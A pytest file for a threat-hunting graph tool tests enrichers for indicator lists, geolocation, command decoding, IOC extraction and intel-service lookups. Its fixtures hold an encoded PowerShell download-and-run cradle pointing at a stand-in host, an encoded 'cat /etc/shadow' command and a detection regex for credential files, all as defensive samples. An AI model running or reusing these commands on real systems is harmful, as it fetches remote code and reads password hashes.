"""Enrichers write what is known of single entities, with source and time, as runs of analytics do."""

from __future__ import annotations

import base64
import json
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from graphhunt.analyses.enrichers import ipstack
from graphhunt.analyses.enrichers.services import leaving
from graphhunt.analyses.extract import Extract
from graphhunt.analyses.registry import analyses
from graphhunt.analyses.runs import analyze, current_results, undo
from graphhunt.errors import UsageError
from graphhunt.questions import pivots
from graphhunt.store import Store
from graphhunt.store.statements import create_nodes
from graphhunt.toolbox import ip_stack
from graphhunt.toolbox.intel import tilookup
from tests.toolbox.intel import answers
from tests.toolbox.mmdb import write_mmdb

SECRET_TEXT = "IEX (New-Object Net.WebClient).DownloadString('http://bad.org/a')"
ENCODED = base64.b64encode(SECRET_TEXT.encode("utf-16-le")).decode()

SHADOW = base64.b64encode(b"cat /etc/shadow").decode()


@pytest.fixture
def graph(store: Store) -> Store:
    nodes: dict[str, list[dict[str, Any]]] = {
        "IP": [{"id": "8.8.4.4"}, {"id": "10.1.2.3"}, {"id": "9.9.9.9", "first_seen": 50, "last_seen": 60}],
        "Domain": [{"id": "evil.org", "name": "www.Evil.org"}, {"id": "printer", "name": "printer"}],
        "URL": [{"id": "u1", "name": "http://Evil.org/A"}],
        "File": [{"id": "f1", "sha256": "a" * 64, "md5": "b" * 32}, {"id": "f2", "path": "c:\\x"}],
        "Process": [
            {"id": "p1", "machine_id": "m", "command_line": f"powershell -enc {ENCODED}", "path": "c:\\ps.exe"},
            {"id": "p2", "machine_id": "m", "command_line": "ping 1.2.3.4", "path": "ping"},
            {"id": "p3", "machine_id": "m"},
            {"id": "p4", "machine_id": "m", "command_line": f"echo {SHADOW}", "path": "/bin/echo"},
        ],
    }
    for label, rows in nodes.items():
        store.write_rows(create_nodes(label), [{"id": row.pop("id"), "props": row} for row in rows])
    return store


def settle(store: Store, monkeypatch: pytest.MonkeyPatch, **given: Any) -> None:
    monkeypatch.setattr(store, "settings", replace(store.settings, **given))


def found(store: Store, name: str, target: str) -> dict[str, dict[str, Any]]:
    return {row["id"]: row for row in current_results(store, name, target)}


def test_lists_of_ones_own(graph: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(UsageError, match="no list"):
        analyze(graph, "local-list")
    (tmp_path / "feed.csv").write_text(
        f"indicator,tlp,severity,first_seen\n8.8.4.4,amber,high,2026-01-01\nwww.evil.org,,,\n{'b' * 32},red,,\n"
        "http://EVIL.org/A,,,\n10.0.0.0/8,,,\n"
    )
    (tmp_path / "more.txt").write_text("8.8.4.4\n")
    settle(graph, monkeypatch, intel_lists=f"{tmp_path / 'feed.csv'},{tmp_path / 'more.txt'}")
    before = time.time_ns() // 1000
    report = analyze(graph, "local-list")
    assert report["written"] == {"IP": 2, "Domain": 1, "URL": 1, "File": 1}
    flags = (
        "MATCH (i:Indicator)-[f:FLAGGED]->(n) RETURN i.name AS i, i.list AS l, n.id AS n, f.source AS s, f.tlp AS t,"
    )
    flags += " f.valid_from AS v"
    assert sorted(map(tuple, graph.analyst(flags, {}, limit=20).rows), key=str) == sorted([
        ("8.8.4.4", "feed", "8.8.4.4", "feed", "amber", 1_767_225_600_000_000),
        ("8.8.4.4", "more", "8.8.4.4", "more", None, None), ("10.0.0.0/8", "feed", "10.1.2.3", "feed", None, None),
        ("www.evil.org", "feed", "evil.org", "feed", None, None), ("b" * 32, "feed", "f1", "feed", "red", None),
        ("http://evil.org/A", "feed", "u1", "feed", None, None),
    ], key=str)  # fmt: skip
    address = pivots.Ref("IP", "8.8.4.4")
    assert [row["neighbours"] for row in pivots.counts(graph, address) if row["relation"] == "FLAGGED"] == [2]
    assert {item["start"] for item in pivots.timeline(graph, address)["items"]} == {None}  # no event of the case
    row = found(graph, "local-list", "IP")["8.8.4.4"]
    assert len(json.loads(row.pop("local_list_entries"))) == 2
    assert before <= row.pop("local_list_time") <= time.time_ns() // 1000
    assert row == {
        "id": "8.8.4.4", "run": report["run"], "local_list_indicator": "8.8.4.4", "local_list_count": 2,
        "local_list_severity": "high", "local_list_tlp": "amber", "local_list_valid_from": 1_767_225_600_000_000,
        "local_list_valid_until": None, "local_list_description": None, "local_list_source": "feed, more",
    }  # fmt: skip
    assert found(graph, "local-list", "IP")["10.1.2.3"]["local_list_indicator"] == "10.0.0.0/8"
    assert found(graph, "local-list", "File")["f1"]["local_list_tlp"] == "red"
    (value,) = graph.analyst("MATCH (n:Domain {id: 'evil.org'}) RETURN n.local_list_source", {}, limit=5).rows
    assert value == ["feed"]
    settle(graph, monkeypatch, intel_lists=str(tmp_path / "more.txt"))
    analyze(graph, "local-list")
    assert [tuple(row[:2]) for row in graph.analyst(flags, {}, limit=20).rows] == [("8.8.4.4", "more")]
    assert undo(graph, "local-list")["current"] == report["run"]
    assert len(graph.analyst(flags, {}, limit=20).rows) == 6
    assert undo(graph, "local-list")["current"] is None
    assert graph.analyst("MATCH (i:Indicator) RETURN i.id", {}, limit=5).rows == []
    assert found(graph, "local-list", "IP") == {}


def test_places_and_sites(graph: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    record = {"city": {"names": {"en": "Here"}}, "location": {"latitude": 1.5, "longitude": 2.5}}
    file = write_mmdb(tmp_path / "c.mmdb", {"8.8.4.0/24": record})
    (tmp_path / "sites.csv").write_text("network,site\n10.1.0.0/16,Plant\n")
    settle(graph, monkeypatch, mmdb=str(file), sites=str(tmp_path / "sites.csv"))
    assert analyze(graph, "sites")["written"] == {"IP": 1}
    assert found(graph, "sites", "IP")["10.1.2.3"]["sites_site"] == "Plant"
    assert analyze(graph, "geo")["written"] == {"IP": 1}
    row = found(graph, "geo", "IP")["8.8.4.4"]
    assert (row["geo_city"], row["geo_latitude"], row["geo_source"]) == ("Here", 1.5, "c.mmdb")


def test_what_asks_nobody(graph: Store) -> None:
    for name in ("domains", "decoded", "iocs", "command-scores", "risky-commands"):
        analyze(graph, name)
    assert found(graph, "domains", "Domain")["evil.org"]["domain_registered"].lower() == "evil.org"
    printer = found(graph, "domains", "Domain")["printer"]
    assert (printer["domain_known_ending"], printer["domain_registered"]) == (False, None)  # nobody registered it
    decoded = found(graph, "decoded", "Process")
    assert decoded.keys() == {"p1", "p4"}
    assert decoded["p4"]["decoded_text"] == "cat /etc/shadow"
    assert decoded["p1"]["decoded_text"] == SECRET_TEXT
    assert decoded["p1"]["decoded_facts"] == ["fetches", "runs"]
    assert decoded["p1"]["decoded_urls"] == ["http://bad.org/a"]
    iocs = found(graph, "iocs", "Process")
    assert iocs["p2"]["ioc_values"] == "1.2.3.4"
    assert "http://bad.org/a" in iocs["p1"]["ioc_values"].split(", ")
    risky = found(graph, "risky-commands", "Process")
    assert risky.keys() == {"p4"}
    assert (risky["p4"]["risky_rules"], risky["p4"]["risky_count"]) == (r"/etc/(?:shadow|sudoers)\b", 1)
    scores = found(graph, "command-scores", "Process")["p2"]
    assert (scores["score_length"], scores["score_path"]) == (len("ping 1.2.3.4"), sum(map(ord, "ping")))


def test_bounds_hold(graph: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "l.txt").write_text("9.9.9.9\n")
    settle(graph, monkeypatch, intel_lists=str(tmp_path / "l.txt"))
    assert analyze(graph, "local-list", {"since": 55})["written"]["IP"] == 1
    assert analyze(graph, "local-list", {"since": 61})["written"]["IP"] == 0


def test_services(graph: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    net = answers.Net(answers.json(answers.GREYNOISE))
    monkeypatch.setattr(tilookup, "Wire", net.wire)
    monkeypatch.setenv("GRAPHHUNT_INTEL_GREYNOISE_KEY", "k")
    listed = leaving(Extract(graph, {}), "GreyNoise", 100)
    assert {row["value"]: row["kept_back"] for row in listed} == {
        "8.8.4.4": None, "9.9.9.9": None, "10.1.2.3": "an address that is not public",
    }  # fmt: skip
    with pytest.raises(UsageError, match="off"):
        analyze(graph, "greynoise")
    assert net.requests == []
    settle(graph, monkeypatch, intel_enabled=True)
    with pytest.raises(UsageError, match="at most 2"):
        analyze(graph, "greynoise", {"most": 2})
    assert analyze(graph, "greynoise")["written"] == {"IP": 2}
    row = found(graph, "greynoise", "IP")["8.8.4.4"]
    assert (row["greynoise_severity"], row["greynoise_source"]) == ("high", "GreyNoise")
    assert len(net.requests) == 2
    analyze(graph, "greynoise")
    assert len(net.requests) == 2  # the workspace keeps the answers


def test_places_asked_of_a_service(graph: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    place = {"country_code": "US", "country_name": "United States", "city": "Los Angeles", "latitude": 34.0453,
             "longitude": -118.2413}  # fmt: skip
    net = answers.Net(answers.json([{"ip": "8.8.4.4", **place}, {"ip": "9.9.9.9", "country_code": None}]))
    monkeypatch.setattr(ip_stack, "Wire", net.wire)
    monkeypatch.setenv("GRAPHHUNT_INTEL_IPSTACK_KEY", "k")
    listed = ipstack.leaving(Extract(graph, {}), {"most": 10, "bulk": True})
    assert {row["value"]: row["kept_back"] for row in listed} == {
        "8.8.4.4": None, "9.9.9.9": None, "10.1.2.3": "an address that is not public",
    }  # fmt: skip
    with pytest.raises(UsageError, match="off"):
        analyze(graph, "ipstack")
    settle(graph, monkeypatch, intel_enabled=True)
    with pytest.raises(UsageError, match="at most 2"):
        analyze(graph, "ipstack", {"most": 2})
    assert net.requests == []
    assert analyze(graph, "ipstack", {"bulk": True})["written"] == {"IP": 1}
    row = found(graph, "ipstack", "IP")["8.8.4.4"]
    assert (row["ipstack_city"], row["ipstack_latitude"], row["ipstack_source"]) == ("Los Angeles", 34.0453, "IPStack")
    analyze(graph, "ipstack", {"bulk": True})
    assert [request.url.path for request in net.requests] == ["/8.8.4.4,9.9.9.9"]  # the workspace keeps the answers


def test_domains_of_machines_that_logged_never_leave(graph: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    machines = [
        {"id": "m1", "props": {"name": "pc1", "fqdn": "PC1.office.firm.org", "stub": False}},
        {"id": "m2", "props": {"name": "pc2", "fqdn": "firm2.com", "stub": False}},
        {"id": "m3", "props": {"name": "c2", "fqdn": "c2.bad.net", "stub": True}},
    ]
    names = ["www.office.firm.org", "firm2.com", "other.com", "c2.bad.net"]
    graph.write_rows(create_nodes("Machine"), machines)
    graph.write_rows(create_nodes("Domain"), [{"id": name, "props": {"name": name}} for name in names])
    monkeypatch.setenv("GRAPHHUNT_INTEL_VIRUSTOTAL_KEY", "k")
    listed = {row["value"]: row["kept_back"] for row in leaving(Extract(graph, {}), "VirusTotal", 100)}
    own = "a name in a domain of your own"
    assert [listed[name] for name in names] == [own, own, None, None]


def test_every_enricher_says_source_and_time() -> None:
    for analysis in analyses().values():
        if analysis.kind == "enricher":
            for target in analysis.targets():
                assert {f"{analysis.prefix}_source", f"{analysis.prefix}_time"} <= set(analysis.written(target))
